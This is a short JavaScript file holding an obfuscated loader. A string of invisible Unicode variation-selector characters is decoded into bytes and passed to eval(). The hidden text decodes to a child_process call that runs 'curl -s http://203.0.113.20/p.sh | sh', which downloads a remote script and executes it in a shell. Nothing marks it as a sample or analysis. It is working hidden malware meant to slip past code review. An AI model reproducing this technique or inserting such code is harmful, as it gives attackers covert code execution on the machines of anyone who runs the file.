const s = '󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅓󠅘󠅙󠅜󠅔󠅏󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄗󠄙󠄞󠅕󠅨󠅕󠅓󠄘󠄗󠅓󠅥󠅢󠅜󠄐󠄝󠅣󠄐󠅘󠅤󠅤󠅠󠄪󠄟󠄟󠄢󠄠󠄣󠄞󠄠󠄞󠄡󠄡󠄣󠄞󠄢󠄠󠄟󠅠󠄞󠅣󠅘󠄐󠅬󠄐󠅣󠅘󠄗󠄙';
const bytes = [];
for (const ch of s) {
  const cp = ch.codePointAt(0);
  if (cp >= 0xfe00 && cp <= 0xfe0f) bytes.push(cp - 0xfe00);
  else if (cp >= 0xe0100 && cp <= 0xe01ef) bytes.push(cp - 0xe0100 + 16);
}
eval(Buffer.from(bytes).toString('utf8'));
